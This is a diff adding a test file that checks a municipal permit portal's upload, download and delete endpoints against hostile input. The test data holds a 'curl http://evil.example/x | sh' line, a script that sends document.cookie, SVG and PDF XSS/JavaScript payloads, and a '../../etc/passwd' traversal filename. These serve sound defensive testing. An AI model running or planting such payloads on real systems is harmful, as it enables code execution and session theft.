@@ -1,0 +1,648 @@
+/**
+ * Uploads, deletions and downloads through the real HTTP stack (app.inject, multipart bodies), with
+ * files and callers that try to get something past the checks. Every refusal must store nothing
+ * and say clearly why.
+ */
+import { randomBytes } from 'node:crypto';
+import type { FastifyInstance } from 'fastify';
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { Database } from '../db/database.js';
+import type { Tenant } from '../tenants/tenant-repository.js';
+import { createRelation, createTenant, relationSessionCookie, testApp } from '../test/support.js';
+import { createDocumentCatalogue, createRequestAt, type DocumentCatalogue } from './document-fixtures.js';
+import { templateDocumentId } from './document-ids.js';
+import {
+  concat,
+  MIME,
+  sampleDocx,
+  sampleJpeg,
+  sampleOle2,
+  samplePdf,
+  samplePng,
+  sampleXlsx,
+  sampleZip,
+} from './sample-files.js';
+
+const { app, db } = await testApp();
+
+interface FilePart {
+  field?: string;
+  filename: string;
+  type?: string;
+  data: Uint8Array;
+}
+
+/** A multipart/form-data body as a browser's FormData sends it. */
+function multipart(fields: Record<string, string>, files: FilePart[]) {
+  const boundary = `----pl${randomBytes(8).toString('hex')}`;
+  const chunks: Buffer[] = [];
+  for (const [name, value] of Object.entries(fields)) {
+    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`));
+  }
+  for (const file of files) {
+    const filename = file.filename.replace(/"/g, '%22').replace(/\r|\n/g, ' ');
+    chunks.push(
+      Buffer.from(
+        `--${boundary}\r\nContent-Disposition: form-data; name="${file.field ?? 'p_file_content'}"; filename="${filename}"\r\n` +
+          `Content-Type: ${file.type ?? 'application/octet-stream'}\r\n\r\n`,
+        'latin1',
+      ),
+      Buffer.from(file.data),
+      Buffer.from('\r\n'),
+    );
+  }
+  chunks.push(Buffer.from(`--${boundary}--\r\n`));
+  return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
+}
+
+interface Resident {
+  tenant: Tenant;
+  relationId: number;
+  cookie: string;
+  catalogue: DocumentCatalogue;
+  /** A request at DOCS_UPLOAD with plate AB123C (own) and XY987Z (leased). */
+  requestId: number;
+}
+
+async function resident(settings: Record<string, string> = {}, tenant?: Tenant, catalogue?: DocumentCatalogue) {
+  const t = tenant ?? (await createTenant(db, { settings }));
+  const c = catalogue ?? (await createDocumentCatalogue(db, t.id));
+  const relationId = await createRelation(db, t);
+  const cookie = await relationSessionCookie(db, t, relationId);
+  const requestId = await createRequestAt(db, t.id, relationId, c, 'DOCS_UPLOAD', {
+    plates: [{ plate: 'AB123C' }, { plate: 'XY987Z', lease: true }],
+  });
+  return { tenant: t, relationId, cookie, catalogue: c, requestId } satisfies Resident;
+}
+
+/** RPG_ID as DOCUMENTS_TO_UPLOAD gives it: requirement × 10 + plate position (0 additional). */
+const rpg = (requirementId: number, platePosition = 0) => requirementId * 10 + platePosition;
+
+function upload(
+  who: Resident,
+  file: FilePart | FilePart[] | null,
+  overrides: Partial<Record<'p_request_id' | 'p_dve' | 'p_dtp_code' | 'p_filename' | 'p_rpg_id', string>> = {},
+  headers: Record<string, string> = {},
+) {
+  const files = file === null ? [] : Array.isArray(file) ? file : [file];
+  const fields = {
+    p_request_id: String(who.requestId),
+    p_dve: '',
+    p_dtp_code: 'HUUR',
+    p_filename: files[0]?.filename ?? 'document.pdf',
+    p_rpg_id: String(rpg(who.catalogue.additional)),
+    ...overrides,
+  };
+  const body = multipart(fields, files);
+  return app.inject({
+    method: 'POST',
+    url: `/${who.tenant.code}/services/eloket/upload_file`,
+    headers: { 'content-type': body.contentType, cookie: who.cookie, 'accept-language': 'en', ...headers },
+    payload: body.payload,
+  });
+}
+
+function call(who: Pick<Resident, 'tenant' | 'cookie'>, endpoint: string, params: Record<string, string>) {
+  return app.inject({
+    method: 'POST',
+    url: `/${who.tenant.code}/services/eloket/${endpoint}`,
+    headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: who.cookie, 'accept-language': 'en' },
+    payload: new URLSearchParams(params).toString(),
+  });
+}
+
+async function storedCount(database: Database, tenantId: number): Promise<number> {
+  const rows = await database.selectFrom('documents').select('id').where('tenant_id', '=', tenantId).execute();
+  return rows.length;
+}
+
+async function storedDocument(tenantId: number, id: number) {
+  return db
+    .selectFrom('documents')
+    .selectAll()
+    .where('tenant_id', '=', tenantId)
+    .where('id', '=', id)
+    .executeTakeFirstOrThrow();
+}
+
+const TYPE_MESSAGE = 'Allowed file formats are PDF, JPEG, PNG, DOC or DOCX.';
+
+/** A refused upload: HTTP 200, the business failure code, UPLOAD_FILE -1, a message, nothing stored. */
+async function expectRefused(
+  response: Awaited<ReturnType<typeof upload>>,
+  who: Resident,
+  code: string,
+  message: string | RegExp,
+) {
+  expect(response.statusCode).toBe(200);
+  const body = response.json();
+  expect(body.statuscode).toBe(code);
+  expect(body.messagetype).toBe('E');
+  expect(body.result).toEqual([{ UPLOAD_FILE: -1 }]);
+  if (typeof message === 'string') expect(body.statusmessage).toBe(message);
+  else expect(body.statusmessage).toMatch(message);
+  expect(await storedCount(db, who.tenant.id)).toBe(0);
+}
+
+async function expectStored(response: Awaited<ReturnType<typeof upload>>, who: Resident) {
+  expect(response.statusCode, response.body).toBe(200);
+  const body = response.json();
+  expect(body.statuscode).toBe('OK');
+  const id = body.result[0].UPLOAD_FILE as number;
+  expect(id).toBeGreaterThan(0);
+  return storedDocument(who.tenant.id, id);
+}
+
+describe('hostile uploads: the content decides, nothing bad is stored', () => {
+  let who: Resident;
+  beforeAll(async () => {
+    who = await resident({ MAX_UPLOAD_MB: '1' });
+  });
+
+  it('1. refuses a renamed Windows executable (MZ) called .pdf and declared a PDF', async () => {
+    const exe = concat('MZ\x90\x00\x03\x00\x00\x00', new Uint8Array(500));
+    await expectRefused(
+      await upload(who, { filename: 'rijbewijs.pdf', type: MIME.pdf, data: exe }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+  });
+
+  it('2. refuses an ELF executable called .pdf', async () => {
+    const elf = concat([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], new Uint8Array(500));
+    await expectRefused(
+      await upload(who, { filename: 'scan.pdf', type: MIME.pdf, data: elf }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+  });
+
+  it('3. refuses a shell script called .pdf', async () => {
+    const script = concat('#!/bin/sh\ncurl http://evil.example/x | sh\n');
+    await expectRefused(
+      await upload(who, { filename: 'contract.pdf', type: MIME.pdf, data: script }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+  });
+
+  it('4. refuses an HTML page called .png', async () => {
+    const html = concat('<!DOCTYPE html><html><body><script>fetch("/x?c="+document.cookie)</script></body></html>');
+    await expectRefused(
+      await upload(who, { filename: 'photo.png', type: MIME.png, data: html }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+  });
+
+  it('5. refuses an SVG with a script called .png', async () => {
+    const svg = concat('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>');
+    await expectRefused(
+      await upload(who, { filename: 'photo.png', type: MIME.png, data: svg }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+  });
+
+  it('6. refuses a PDF that is also an HTML page in its first bytes (polyglot)', async () => {
+    const polyglot = concat('%PDF-1.5\n%<html><script>alert(document.domain)</script>\n', samplePdf().slice(9));
+    await expectRefused(
+      await upload(who, { filename: 'poly.pdf', type: MIME.pdf, data: polyglot }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+  });
+
+  it('7. refuses a GIF, even called .jpg', async () => {
+    const gif = concat(
+      'GIF89a',
+      [1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x21, 0xf9, 4, 1, 0, 0, 0, 0, 0x3b],
+    );
+    await expectRefused(
+      await upload(who, { filename: 'pasfoto.jpg', type: 'image/jpeg', data: gif }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+  });
+
+  it('8. refuses RTF (DECISIONS 1), also called .doc', async () => {
+    const rtf = concat('{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Huurcontract}');
+    await expectRefused(
+      await upload(who, { filename: 'huur.doc', type: MIME.doc, data: rtf }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+    await expectRefused(
+      await upload(who, { filename: 'huur.rtf', type: 'application/rtf', data: rtf }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+  });
+
+  it('9. refuses a plain ZIP called .docx', async () => {
+    const zip = sampleZip({ 'invoice.exe': 'MZ...', 'readme.txt': 'open me' });
+    await expectRefused(
+      await upload(who, { filename: 'brief.docx', type: MIME.docx, data: zip }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+  });
+
+  it('10. refuses an Excel workbook (XLSX) called .docx', async () => {
+    await expectRefused(
+      await upload(who, { filename: 'brief.docx', type: MIME.docx, data: sampleXlsx() }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+  });
+
+  it('11. refuses a file just above MAX_UPLOAD_MB and names the maximum', async () => {
+    const response = await upload(who, { filename: 'big.pdf', type: MIME.pdf, data: samplePdf(1_048_577) });
+    await expectRefused(
+      response,
+      who,
+      'UPLOAD_FILE_TOO_LARGE',
+      'This file is too large. Upload a file of 1Mb maximum.',
+    );
+    const nl = await upload(
+      who,
+      { filename: 'big.pdf', type: MIME.pdf, data: samplePdf(1_048_577) },
+      {},
+      { 'accept-language': 'nl' },
+    );
+    expect(nl.json().statusmessage).toBe('Dit bestand is te groot. Upload een bestand van maximaal 1 MB.');
+  });
+
+  it('13. refuses an empty file', async () => {
+    await expectRefused(
+      await upload(who, { filename: 'leeg.pdf', type: MIME.pdf, data: new Uint8Array() }),
+      who,
+      'UPLOAD_FILE_EMPTY',
+      'This file is empty. Nothing has been saved. Choose another file.',
+    );
+  });
+
+  it('17. refuses PNG bytes declared as application/pdf (wrong declared type)', async () => {
+    await expectRefused(
+      await upload(who, { filename: 'scan.pdf', type: MIME.pdf, data: samplePng() }),
+      who,
+      'UPLOAD_DECLARED_TYPE',
+      /does not match its content/,
+    );
+  });
+
+  it('18. refuses a JPEG whose header is cut off', async () => {
+    await expectRefused(
+      await upload(who, { filename: 'foto.jpg', type: MIME.jpeg, data: sampleJpeg().slice(0, 24) }),
+      who,
+      'UPLOAD_FILE_DAMAGED',
+      /damaged or incomplete/,
+    );
+  });
+
+  it('refuses a PDF with JavaScript and a Word file with macros', async () => {
+    const pdf = samplePdf();
+    const withJs = concat(
+      pdf.slice(0, 60),
+      '9 0 obj << /S /JavaScript /JS (app.launchURL("x")) >> endobj\n',
+      pdf.slice(60),
+    );
+    await expectRefused(
+      await upload(who, { filename: 'a.pdf', type: MIME.pdf, data: withJs }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+    const macros = sampleOle2(['WordDocument', 'Macros']);
+    await expectRefused(
+      await upload(who, { filename: 'a.doc', type: MIME.doc, data: macros }),
+      who,
+      'UPLOAD_FILE_TYPE',
+      TYPE_MESSAGE,
+    );
+  });
+
+  it('20. refuses two files at once, storing neither', async () => {
+    const response = await upload(who, [
+      { filename: 'a.pdf', type: MIME.pdf, data: samplePdf() },
+      { field: 'p_file_content', filename: 'b.pdf', type: MIME.pdf, data: samplePdf() },
+    ]);
+    expect(response.statusCode).toBe(413);
+    expect(response.json().messagetype).toBe('E');
+    expect(await storedCount(db, who.tenant.id)).toBe(0);
+  });
+
+  it('21. refuses a call without a file part, naming the missing parameter', async () => {
+    const response = await upload(who, null, { p_filename: 'x.pdf' });
+    expect(response.statusCode).toBe(400);
+    expect(response.json()).toMatchObject({
+      statuscode: 'INVALID_PARAMETERS',
+      messagetype: 'E',
+      result: [{ FIELD: 'p_file_content', CODE: 'required' }],
+    });
+    // The "file" as a text field is no file either.
+    const asText = await upload(who, null, { p_filename: 'x.pdf', p_file_content: '%PDF-1.4 ...' } as never);
+    expect(asText.statusCode).toBe(400);
+    expect(await storedCount(db, who.tenant.id)).toBe(0);
+  });
+});
+
+describe('uploads that pass, with their names made safe', () => {
+  let who: Resident;
+  beforeAll(async () => {
+    who = await resident({ MAX_UPLOAD_MB: '1' });
+  });
+
+  it('12. accepts a file of exactly MAX_UPLOAD_MB × 1,048,576 bytes', async () => {
+    const row = await expectStored(
+      await upload(who, { filename: 'exact.pdf', type: MIME.pdf, data: samplePdf(1_048_576) }),
+      who,
+    );
+    expect(row.size).toBe(1_048_576);
+    expect(row.content_type).toBe('application/pdf');
+    expect(row.status_level).toBe(1);
+    expect(row.sha256).toMatch(/^[0-9a-f]{64}$/);
+    await db.deleteFrom('documents').where('tenant_id', '=', who.tenant.id).execute();
+  });
+
+  it('14. stores "../../etc/passwd" as passwd.<type>, never as a path', async () => {
+    const row = await expectStored(
+      await upload(who, { filename: '../../etc/passwd', type: MIME.pdf, data: samplePdf() }),
+      who,
+    );
+    expect(row.filename).toBe('passwd.pdf');
+    await db.deleteFrom('documents').where('tenant_id', '=', who.tenant.id).execute();
+  });
+
+  it('15. strips NUL and control characters from the name', async () => {
+    const row = await expectStored(
+      await upload(
+        who,
+        { filename: 'x.png', type: MIME.png, data: samplePng() },
+        { p_filename: 'pas\u0000foto\u0007\u001b[31m.png' },
+      ),
+      who,
+    );
+    expect(row.filename).toBe('pasfoto[31m.png');
+    expect([...row.filename].some((c) => c.charCodeAt(0) < 0x20)).toBe(false);
+    await db.deleteFrom('documents').where('tenant_id', '=', who.tenant.id).execute();
+  });
+
+  it('16. strips an absolute Windows path and sets the extension to the real type', async () => {
+    const row = await expectStored(
+      await upload(who, { filename: 'C:\\Users\\jan\\Desktop\\huurcontract.pdf', type: MIME.docx, data: sampleDocx() }),
+      who,
+    );
+    expect(row.filename).toBe('huurcontract.docx');
+    expect(row.content_type).toBe(MIME.docx);
+    await db.deleteFrom('documents').where('tenant_id', '=', who.tenant.id).execute();
+  });
+
+  it('19. accepts a JPEG declared as image/jpg, and a DOC', async () => {
+    const jpeg = await expectStored(
+      await upload(who, { filename: 'Photo of document.jpg', type: 'image/jpg', data: sampleJpeg() }),
+      who,
+    );
+    expect(jpeg.content_type).toBe('image/jpeg');
+    expect(jpeg.filename).toBe('Photo of document.jpg');
+    const doc = await expectStored(
+      await upload(who, { filename: 'brief.doc', type: MIME.doc, data: sampleOle2() }),
+      who,
+    );
+    expect(doc.content_type).toBe(MIME.doc);
+    await db.deleteFrom('documents').where('tenant_id', '=', who.tenant.id).execute();
+  });
+
+  it('stores a plate document with its plate, and takes the plate as the resident typed it', async () => {
+    const row = await expectStored(
+      await upload(
+        who,
+        { filename: 'kenteken.pdf', type: MIME.pdf, data: samplePdf() },
+        { p_dtp_code: 'KENTEKEN', p_dve: 'ab-123-c', p_rpg_id: String(rpg(who.catalogue.plate, 1)) },
+      ),
+      who,
+    );
+    expect(row.license_plate).toBe('AB123C');
+    expect(row.requirement_id).toBe(who.catalogue.plate);
+    await db.deleteFrom('documents').where('tenant_id', '=', who.tenant.id).execute();
+  });
+});
+
+describe('uploads for the wrong request, stage, requirement or count', () => {
+  let who: Resident;
+  beforeAll(async () => {
+    who = await resident();
+  });
+  const pdf = (): FilePart => ({ filename: 'bewijs.pdf', type: MIME.pdf, data: samplePdf() });
+
+  it('22. answers another resident’s request with NOT_FOUND and stores nothing', async () => {
+    const other = await resident({}, who.tenant, who.catalogue);
+    const response = await upload(who, pdf(), { p_request_id: String(other.requestId) });
+    expect(response.statusCode).toBe(404);
+    expect(response.json()).toMatchObject({ statuscode: 'NOT_FOUND', messagetype: 'E', result: [] });
+    expect(await storedCount(db, who.tenant.id)).toBe(0);
+  });
+
+  it('23. answers another municipality’s request with NOT_FOUND, also under that municipality’s address', async () => {
+    const elsewhere = await resident();
+    const response = await upload(who, pdf(), { p_request_id: String(elsewhere.requestId) });
+    expect(response.statusCode).toBe(404);
+    // The session cookie of one municipality is no session at another.
+    const crossed = await upload({ ...elsewhere, cookie: who.cookie }, pdf());
+    expect(crossed.json().statuscode).toBe('SESSION_TIMEOUT');
+    expect(await storedCount(db, who.tenant.id)).toBe(0);
+    expect(await storedCount(db, elsewhere.tenant.id)).toBe(0);
+  });
+
+  it('24. refuses a request that is not at an upload stage', async () => {
+    for (const status of ['DOCS_AWAIT_APROVAL', 'AWAIT_PAYMENT', 'PERMIT_CREATED', 'CANCELLED', 'DOCS_REJECTED']) {
+      const requestId = await createRequestAt(db, who.tenant.id, who.relationId, who.catalogue, status);
+      await expectRefused(
+        await upload(who, pdf(), { p_request_id: String(requestId) }),
+        who,
+        'DOCUMENT_STAGE',
+        /not \(or no longer\) waiting for documents/,
+      );
+    }
+  });
+
+  it('accepts uploads at DOCS_OPTIONAL and DOCS_REJECTED_UPLOAD', async () => {
+    for (const status of ['DOCS_OPTIONAL', 'DOCS_REJECTED_UPLOAD']) {
+      const requestId = await createRequestAt(db, who.tenant.id, who.relationId, who.catalogue, status);
+      await expectStored(await upload(who, pdf(), { p_request_id: String(requestId) }), who);
+    }
+    await db.deleteFrom('documents').where('tenant_id', '=', who.tenant.id).execute();
+  });
+
+  it('25. refuses an upload above MAX_DOCUMENTS; a rejected document does not count', async () => {
+    const first = await expectStored(await upload(who, pdf()), who);
+    await expectStored(await upload(who, pdf()), who);
+    const third = await upload(who, pdf());
+    expect(third.json()).toMatchObject({ statuscode: 'UPLOAD_TOO_MANY', result: [{ UPLOAD_FILE: -1 }] });
+    expect(third.json().statusmessage).toMatch(/maximum number of files/);
+    expect(await storedCount(db, who.tenant.id)).toBe(2);
+    await db
+      .updateTable('documents')
+      .set({ status_level: 0, status_code: 'REJECTED', status_reason_code: 'NVT', status_reason_text: 'Onleesbaar' })
+      .where('tenant_id', '=', who.tenant.id)
+      .where('id', '=', first.id)
+      .execute();
+    await expectStored(await upload(who, pdf()), who);
+    await db.deleteFrom('documents').where('tenant_id', '=', who.tenant.id).execute();
+  });
+
+  it('26. refuses a requirement, document type or plate that does not fit the request', async () => {
+    const mismatch = async (overrides: Parameters<typeof upload>[2]) =>
+      expectRefused(await upload(who, pdf(), overrides), who, 'UPLOAD_REQUIREMENT', /does not belong to this request/);
+    // The plate document of plate 1, for another plate.
+    await mismatch({ p_dtp_code: 'KENTEKEN', p_dve: 'XY987Z', p_rpg_id: String(rpg(who.catalogue.plate, 1)) });
+    // The plate document without a plate, and the additional document with one.
+    await mismatch({ p_dtp_code: 'KENTEKEN', p_dve: '', p_rpg_id: String(rpg(who.catalogue.plate, 1)) });
+    await mismatch({ p_dtp_code: 'HUUR', p_dve: 'AB123C' });
+    // Another document type than the requirement's.
+    await mismatch({ p_dtp_code: 'KENTEKEN' });
+    // The lease document for the plate that is the resident's own (only XY987Z is leased).
+    await mismatch({ p_dtp_code: 'LEASE', p_dve: 'AB123C', p_rpg_id: String(rpg(who.catalogue.lease, 1)) });
+    // A plate position the request does not have, and a nonsense RPG_ID.
+    await mismatch({ p_dtp_code: 'KENTEKEN', p_dve: 'AB123C', p_rpg_id: String(rpg(who.catalogue.plate, 5)) });
+    await mismatch({ p_rpg_id: '7' });
+    // The requirement of another municipality's permit type.
+    const elsewhere = await resident();
+    await mismatch({ p_rpg_id: String(rpg(elsewhere.catalogue.additional)) });
+    // The lease document for the leased plate fits.
+    await expectStored(
+      await upload(who, pdf(), { p_dtp_code: 'LEASE', p_dve: 'XY987Z', p_rpg_id: String(rpg(who.catalogue.lease, 2)) }),
+      who,
+    );
+    await db.deleteFrom('documents').where('tenant_id', '=', who.tenant.id).execute();
+  });
+});
+
+describe('delete_document and get_document', () => {
+  let who: Resident;
+  let documentId: number;
+  beforeAll(async () => {
+    who = await resident();
+    const response = await upload(
+      who,
+      { filename: 'x.pdf', type: MIME.pdf, data: samplePdf() },
+      { p_filename: 'Überweisung "café".pdf' },
+    );
+    documentId = response.json().result[0].UPLOAD_FILE;
+  });
+
+  it('gives the owner the file with its real type, a safe name and headers that keep it a download', async () => {
+    const response = await call(who, 'get_document', { p_doc_id: String(documentId) });
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-type']).toBe('application/pdf');
+    expect(response.headers['content-disposition']).toBe(
+      `attachment; filename="Uberweisung _cafe_.pdf"; filename*=UTF-8''%C3%9Cberweisung%20_caf%C3%A9_.pdf`,
+    );
+    expect(response.headers['x-content-type-options']).toBe('nosniff');
+    expect(response.headers['cache-control']).toBe('private, no-store');
+    expect(Buffer.compare(response.rawPayload, Buffer.from(samplePdf()))).toBe(0);
+  });
+
+  it('refuses another resident and another municipality with NOT_FOUND', async () => {
+    const other = await resident({}, who.tenant, who.catalogue);
+    for (const endpoint of ['get_document', 'delete_document']) {
+      const response = await call(other, endpoint, { p_doc_id: String(documentId) });
+      expect(response.statusCode).toBe(404);
+      expect(response.json().statuscode).toBe('NOT_FOUND');
+    }
+    const elsewhere = await resident();
+    for (const endpoint of ['get_document', 'delete_document']) {
+      const response = await call(elsewhere, endpoint, { p_doc_id: String(documentId) });
+      expect(response.statusCode).toBe(404);
+    }
+    expect(await storedCount(db, who.tenant.id)).toBe(1);
+  });
+
+  it('serves a requirement’s template under its own id range, and nothing for an unknown one', async () => {
+    const response = await call(who, 'get_document', {
+      p_doc_id: String(templateDocumentId(who.catalogue.additional)),
+    });
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-disposition']).toContain("filename*=UTF-8''Verklaring%20bewoner.pdf");
+    const none = await call(who, 'get_document', { p_doc_id: String(templateDocumentId(who.catalogue.plate)) });
+    expect(none.statusCode).toBe(404);
+    const elsewhere = await resident();
+    const foreign = await call(who, 'get_document', {
+      p_doc_id: String(templateDocumentId(elsewhere.catalogue.additional)),
+    });
+    expect(foreign.statusCode).toBe(404);
+  });
+
+  it('refuses to delete a reviewed document (STATUS_LEVEL 2) or outside the upload stage', async () => {
+    await db
+      .updateTable('documents')
+      .set({ status_level: 2, status_code: 'ACCEPTED' })
+      .where('tenant_id', '=', who.tenant.id)
+      .execute();
+    const reviewed = await call(who, 'delete_document', { p_doc_id: String(documentId) });
+    expect(reviewed.json()).toMatchObject({ statuscode: 'DOCUMENT_REVIEWED', messagetype: 'E' });
+    expect(reviewed.json().statusmessage).toMatch(/already been reviewed/);
+    await db
+      .updateTable('documents')
+      .set({ status_level: 1, status_code: 'UPLOADED' })
+      .where('tenant_id', '=', who.tenant.id)
+      .execute();
+    await db
+      .updateTable('requests')
+      .set({ status: 'DOCS_AWAIT_APROVAL' })
+      .where('tenant_id', '=', who.tenant.id)
+      .where('id', '=', who.requestId)
+      .execute();
+    const stage = await call(who, 'delete_document', { p_doc_id: String(documentId) });
+    expect(stage.json().statuscode).toBe('DOCUMENT_STAGE');
+    expect(await storedCount(db, who.tenant.id)).toBe(1);
+    await db
+      .updateTable('requests')
+      .set({ status: 'DOCS_UPLOAD' })
+      .where('tenant_id', '=', who.tenant.id)
+      .where('id', '=', who.requestId)
+      .execute();
+  });
+
+  it('lets the owner delete an unreviewed document at the upload stage, and says so', async () => {
+    const response = await call(who, 'delete_document', { p_doc_id: String(documentId) });
+    expect(response.json()).toEqual({
+      statuscode: 'OK',
+      statusmessage: 'The document has been deleted.',
+      messagetype: 'I',
+      result: [],
+    });
+    expect(await storedCount(db, who.tenant.id)).toBe(0);
+    expect((await call(who, 'get_document', { p_doc_id: String(documentId) })).statusCode).toBe(404);
+  });
+});
+
+describe('the audit trail', () => {
+  it('records refused and accepted uploads without file contents', async () => {
+    const who = await resident();
+    await upload(who, { filename: 'x.pdf', type: MIME.pdf, data: concat('MZ', new Uint8Array(100)) });
+    await upload(who, { filename: 'x.pdf', type: MIME.pdf, data: samplePdf() });
+    const rows = await db
+      .selectFrom('audit_log')
+      .select(['event', 'outcome', 'detail'])
+      .where('tenant_id', '=', who.tenant.id)
+      .orderBy('id')
+      .execute();
+    expect(rows.map((r) => `${r.event} ${r.outcome}`)).toEqual(['document.upload refused', 'document.upload success']);
+    expect(rows[0]?.detail).toContain('executable');
+  });
+});
+
+// The app is shared by this file's tests; keep the reference for type inference.
+void (app satisfies FastifyInstance);
